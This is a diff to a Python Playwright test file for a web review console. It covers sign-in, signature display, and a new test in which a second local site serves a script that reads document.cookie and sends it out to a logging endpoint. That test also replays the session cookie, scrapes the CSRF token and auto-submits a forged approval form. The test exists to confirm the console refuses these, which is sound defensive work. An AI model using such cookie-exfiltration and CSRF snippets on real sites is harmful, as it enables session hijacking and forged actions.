@@ -12,21 +12,29 @@ import os
 import subprocess
 import sys
 import textwrap
+import threading
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from urllib.parse import quote
+from typing import TYPE_CHECKING, ClassVar
+from urllib.parse import parse_qs, quote, urlsplit
 
 import httpx
 import pytest
 
 from tests.browser import chromium_or_skip, launch
 from tests.cli_runs import cli, run_id_of
+from tests.converge.ui_console import Served, serving, start_console, stop_console
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Page
 
 pytestmark = pytest.mark.slow
 
 GATE = "gate:6:vendor.commitments/acme"
+KEY = "ui-test-signing-key"
 ROOT = Path(__file__).resolve().parents[2]
 SHOTS = ROOT / "test-artifacts"  # fresh screenshots; docs/img holds the reviewed ones
 CHAIN = ROOT / "tests" / "converge" / "durable_formation.py"
@@ -65,49 +73,46 @@ HOSTILE = textwrap.dedent(
 
 @dataclass
 class Console:
-    base: str
-    token: str
+    served: Served
     store: str
     run_id: str
 
     @property
+    def base(self) -> str:
+        return self.served.base
+
+    @property
+    def token(self) -> str:
+        return self.served.token
+
+    @property
     def signed_in(self) -> str:
-        return f"{self.base}/?token={self.token}"
+        """The printed one-time sign-in link (it works once)."""
+        return self.served.link
 
     def gate(self, gate: str = GATE) -> str:
         return f"{self.base}/runs/{quote(self.run_id, safe='')}/gates/{quote(gate, safe='')}"
 
 
-def start_console(store: str, *extra: str) -> tuple[subprocess.Popen[str], str, str]:
-    process = subprocess.Popen(
-        [sys.executable, "-m", "converge.cli", "--store", store, "ui", "--port", "0", *extra],
-        stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        text=True,
-        env={**os.environ, "PYTHONPATH": str(ROOT / "tests" / "converge")},
-    )
-    assert process.stdout is not None
-    for line in process.stdout:
-        if line.startswith("open "):
-            url = line.split()[1]
-            base, _, token = url.partition("/?token=")
-            return process, base, token
-    process.kill()
-    raise AssertionError(f"converge ui printed no URL: {process.communicate()}")
+def sign_in_with_token(page: Page, base: str, token: str) -> None:
+    """Sign a browser page in through the console's sign-in form."""
+    page.goto(f"{base}/sign-in")
+    page.get_by_label("Your reviewer token").fill(token)
+    page.get_by_role("button", name="Sign in").click()
+    page.wait_for_url(f"{base}/")
 
 
 @pytest.fixture
-def console(tmp_path: Path) -> Iterator[Console]:
+def console(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Console]:
+    """A console on a paused demo run, both signed with a key (the record verifies)."""
     chromium_or_skip("the review console tests")
+    monkeypatch.setenv("CONVERGE_SIGNING_KEY", KEY)
     store = str(tmp_path / "runs.db")
     code, out = cli("--store", store, "demo")
     assert code == 6, out
-    process, base, token = start_console(store, "--reviewer", "ana", "--poll", "0.1")
-    try:
-        yield Console(base, token, store, run_id_of(out))
-    finally:
-        process.terminate()
-        process.communicate(timeout=10)
+    env = {"CONVERGE_SIGNING_KEY": KEY}
+    with serving(store, "--reviewer", "ana", "--poll", "0.1", env=env) as served:
+        yield Console(served, store, run_id_of(out))
 
 
 def test_a_reviewer_sees_the_gate_with_its_payload_approves_and_watches_it_converge(
@@ -136,6 +141,11 @@ def test_a_reviewer_sees_the_gate_with_its_payload_approves_and_watches_it_conve
         expect(payload).to_contain_text("420000")
         expect(page.locator(".chain")).to_contain_text("vendor.recommendations/acme")
         expect(page.locator(".chain")).to_contain_text("vendor.bids/")
+        expect(page.locator("[data-signature]")).to_have_attribute("data-signature", "verified")
+        expect(page.locator("[data-formation-trust]")).to_contain_text("its signature verified")
+        expect(page.locator("[data-rule]")).to_contain_text("held because")
+        expect(page.locator("[data-next]")).to_contain_text("Approve: the proposal becomes")
+        expect(page.locator("[data-next]")).to_contain_text("Reject: the proposal is refused")
         page.screenshot(path=str(SHOTS / "ui-gate.png"), full_page=True)
         page.get_by_role("button", name="Approve").click()
         expect(page.locator("body")).to_have_attribute(
@@ -158,8 +168,9 @@ def test_two_reviewers_deciding_one_gate_one_wins_the_other_sees_who(
         browser = launch(playwright)
         first, second = browser.new_context(), browser.new_context()
         pages = [context.new_page() for context in (first, second)]
+        pages[0].goto(console.signed_in)  # the one-time link signs one browser in
+        sign_in_with_token(pages[1], console.base, console.token)  # the form, the other
         for page in pages:
-            page.goto(console.signed_in)
             page.goto(console.gate())
             expect(page.get_by_role("button", name="Approve")).to_be_visible()
         pages[1].get_by_label("reason").fill("too expensive")
@@ -186,9 +197,11 @@ def test_without_the_token_every_page_is_refused(console: Console) -> None:
     ):
         response = httpx.get(url, follow_redirects=False)
         assert response.status_code == 401, url
-        assert "Sign-in needed" in response.text
+        assert 'action="/sign-in"' in response.text  # the sign-in form, nothing else
+        assert "set-cookie" not in response.headers
     response = httpx.post(console.gate(), data={"gate:" + GATE: "approve"})
     assert response.status_code == 401
+    assert "Sign-in needed" in response.text
     with httpx.Client(headers={"authorization": "Bearer not-the-token"}) as client:
         assert client.get(console.base + "/").status_code == 401
     with httpx.Client(headers={"authorization": f"Bearer {console.token}"}) as client:
@@ -227,14 +240,15 @@ def test_hostile_text_in_facts_renders_inert(tmp_path: Path) -> None:
     code, out = cli("--store", store, "run", str(formation))
     assert code == 6, out
     run_id = run_id_of(out)
-    process, base, token = start_console(store)
+    served = start_console(store)
+    base = served.base
     try:
         with sync_playwright() as playwright:
             browser = launch(playwright)
             page = browser.new_page()
             dialogs: list[str] = []
             page.on("dialog", lambda dialog: dialogs.append(dialog.message))
-            page.goto(f"{base}/?token={token}")
+            page.goto(served.link)
             for path in ("", f"/gates/{quote('gate:2:strategies/evil', safe='')}"):
                 page.goto(f"{base}/runs/{run_id}{path}")
                 page.wait_for_load_state("load")
@@ -245,8 +259,7 @@ def test_hostile_text_in_facts_renders_inert(tmp_path: Path) -> None:
             assert not dialogs
             browser.close()
     finally:
-        process.terminate()
-        process.communicate(timeout=10)
+        stop_console(served)
 
 
 def test_a_running_run_page_follows_each_saved_cycle_without_a_reload(tmp_path: Path) -> None:
@@ -260,9 +273,10 @@ def test_a_running_run_page_follows_each_saved_cycle_without_a_reload(tmp_path: 
         stdout=subprocess.DEVNULL,
         env=env,
     )
-    process, base, token = start_console(store, "--poll", "0.05")
+    served = start_console(store, "--poll", "0.05")
+    base = served.base
     try:
-        with httpx.Client(headers={"authorization": f"Bearer {token}"}) as client:
+        with httpx.Client(headers={"authorization": f"Bearer {served.token}"}) as client:
             deadline = time.monotonic() + 20
             while 'data-status="running"' not in (listing := client.get(base + "/").text):
                 assert time.monotonic() < deadline, "the run never showed as running"
@@ -271,9 +285,12 @@ def test_a_running_run_page_follows_each_saved_cycle_without_a_reload(tmp_path: 
         with sync_playwright() as playwright:
             browser = launch(playwright)
             page = browser.new_page()
-            page.goto(f"{base}/?token={token}")
+            page.goto(served.link)
             page.goto(f"{base}/runs/{run_id}")
             assert page.locator("body").get_attribute("data-status") == "running"
+            said = page.locator('[data-summary="stop"]').inner_text()
+            assert said.startswith("The run is running"), said
+            assert "stopped running" not in page.locator("main").inner_text()
             versions = {page.locator("body").get_attribute("data-version")}
             deadline = time.monotonic() + 30
             while page.locator("body").get_attribute("data-status") != "finished":
@@ -286,6 +303,109 @@ def test_a_running_run_page_follows_each_saved_cycle_without_a_reload(tmp_path: 
             browser.close()
     finally:
         runner.wait(timeout=30)
-        process.terminate()
-        process.communicate(timeout=10)
+        stop_console(served)
     assert runner.returncode == 0
+
+
+# --- a second site on 127.0.0.1 -----------------------------------------------------------------
+
+
+class Elsewhere(BaseHTTPRequestHandler):
+    """Another site on 127.0.0.1 (another port) that the reviewer's browser visits.
+
+    It logs the cookies the browser sends it (cookies are not port-scoped: the console's come
+    along) and what its pages' scripts could read, and serves a page that posts a decision
+    to the console from here.
+    """
+
+    cookies: ClassVar[list[str]] = []
+    said: ClassVar[list[str]] = []
+    post_page: ClassVar[str] = ""
+
+    def do_GET(self) -> None:
+        self.cookies.append(self.headers.get("cookie", ""))
+        url = urlsplit(self.path)
+        if url.path == "/log":
+            self.said.extend(parse_qs(url.query).get("said", []))
+            self._send("ok")
+        elif url.path == "/steal":
+            self._send(self.steal_page)
+        elif url.path == "/post":
+            self._send(self.post_page)
+        else:
+            self._send("elsewhere")
+
+    steal_page: ClassVar[str] = ""
+
+    def _send(self, body: str) -> None:
+        data = body.encode()
+        self.send_response(200)
+        self.send_header("content-type", "text/html; charset=utf-8")
+        self.send_header("content-length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def log_message(self, format: str, *args: object) -> None:
+        return
+
+
+def test_console_a_second_site_on_another_port_gets_only_a_session_and_cannot_post(
+    console: Console,
+) -> None:
+    """The attack of a page on the same machine: read the cookie, reuse it, post a decision."""
+    from playwright.sync_api import expect, sync_playwright
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+    there = f"http://127.0.0.1:{server.server_address[1]}"
+    Elsewhere.cookies, Elsewhere.said = [], []
+    Elsewhere.steal_page = f"""<!DOCTYPE html><body><script>
+      const log = (said) => fetch("/log?said=" + encodeURIComponent(said));
+      log("document.cookie=" + document.cookie);
+      fetch("{console.base}/", {{credentials: "include"}})
+        .then((r) => r.text()).then((t) => log("read " + t.length))
+        .catch((e) => log("fetch refused"));
+    </script></body>"""
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    cookie = f"converge-console-{console.served.port}"
+    try:
+        with sync_playwright() as playwright:
+            browser = launch(playwright)
+            page = browser.new_page()
+            page.goto(console.signed_in)
+            page.goto(f"{there}/steal")
+            deadline = time.monotonic() + 10
+            while len(Elsewhere.said) < 2:
+                assert time.monotonic() < deadline, Elsewhere.said
+                time.sleep(0.05)
+            assert sorted(Elsewhere.said) == ["document.cookie=", "fetch refused"]
+            # What the other site's server received: the console's cookie, a session id only.
+            sent = [c for c in Elsewhere.cookies if cookie in c]
+            assert sent, Elsewhere.cookies
+            session = sent[0].split(f"{cookie}=")[1].split(";")[0]
+            assert console.token not in " ".join(Elsewhere.cookies)
+            assert session != console.token
+            # Reused from elsewhere it opens this session, and it gives the CSRF token ...
+            stolen = httpx.get(console.gate(), cookies={cookie: session})
+            assert stolen.status_code == 200
+            csrf = stolen.text.split('name="csrf" value="')[1].split('"')[0]
+            version = stolen.text.split('name="version" value="')[1].split('"')[0]
+            # ... yet a decision posted from the other site's page, with that token, is refused.
+            Elsewhere.post_page = (
+                f'<!DOCTYPE html><body><form method="post" action="{console.gate()}">'
+                f'<input name="csrf" value="{csrf}"><input name="version" value="{version}">'
+                f'<input name="gate:{GATE}" value="approve"></form>'
+                "<script>document.forms[0].submit()</script></body>"
+            )
+            page.goto(f"{there}/post")
+            expect(page.locator("h1")).to_have_text("Refused")
+            expect(page.locator("[data-message]")).to_contain_text(f"came from {there}")
+            # Signing out ends the session: the id the other site kept opens nothing more.
+            page.goto(console.base + "/")
+            page.get_by_role("button", name="Sign out").click()
+            expect(page.locator("h1")).to_have_text("Sign in")
+            assert httpx.get(console.base + "/", cookies={cookie: session}).status_code == 401
+            browser.close()
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert cli("--store", console.store, "review", console.run_id)[0] == 6  # nothing decided
